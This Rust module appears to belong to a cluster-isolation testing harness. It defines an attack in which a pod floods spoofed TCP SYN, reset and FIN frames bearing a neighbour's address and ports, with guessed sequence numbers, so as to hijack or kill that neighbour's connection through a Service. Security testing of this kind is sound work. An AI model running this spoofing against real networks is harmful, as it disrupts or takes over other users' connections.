//! A pod sends segments with a neighbour's address and ports.

use std::net::SocketAddr;

use anyhow::Result;

use crate::attack::Attack;
use crate::frame::{Macs, tcp};
use crate::gain::Gain;
use crate::held::Connections;
use crate::launch::launch;
use crate::scene::Scene;
use crate::services::TARGET;

pub(super) const ATTACK: Attack = Attack {
    name: "connection of a neighbour",
    idea: "A pod sends SYNs and resets with the address and port of a neighbour that has a connection \
           through a Service, and resets as the Service and as its backends. It would take the connection \
           over, or end it.",
    needs_check: true,
    run,
};

/// So often a SYN has a backend chosen.
const TRIES: u32 = 5;

fn run(scene: &Scene) -> Result<Gain> {
    let web = scene.services.web;
    let held = Connections::open(&scene.victim, web)?;
    let mut frames = Vec::new();
    let (gateway, neighbour) = (scene.to_gateway()?, scene.to_neighbour(&scene.victim)?);
    let backends = [&scene.near_backend, &scene.far_backend];
    for port in held.ports()? {
        let client = SocketAddr::new(scene.victim.address()?, port);
        // It knows no sequence numbers.
        for sequence in (0..TRIES).map(|number| number * 0x3333_3333 + 7) {
            for (number, flags) in [(1, "S"), (2, "R"), (3, "RA"), (4, "S"), (5, "FA"), (6, "S")] {
                frames.push(tcp(gateway, client, web, (sequence + number, flags))?);
            }
            for backend in backends {
                let backend = SocketAddr::new(backend.address()?, TARGET);
                frames.push(tcp(gateway, client, backend, (sequence, "R"))?);
                frames.extend(answers((gateway, neighbour), backend, client, sequence)?);
            }
            frames.extend(answers((gateway, neighbour), web, client, sequence)?);
        }
    }
    launch(scene, &scene.attacker, "eth0", &frames)?;
    Ok(held.gain())
}

/// What a server might say, by both ways.
fn answers(
    (gateway, neighbour): (Macs, Macs),
    server: SocketAddr,
    client: SocketAddr,
    sequence: u32,
) -> Result<Vec<Vec<u8>>> {
    let mut frames = Vec::new();
    for macs in [gateway, neighbour] {
        for flags in ["R", "RA", "SA", "FA"] {
            frames.push(tcp(macs, server, client, (sequence, flags))?);
        }
    }
    Ok(frames)
}
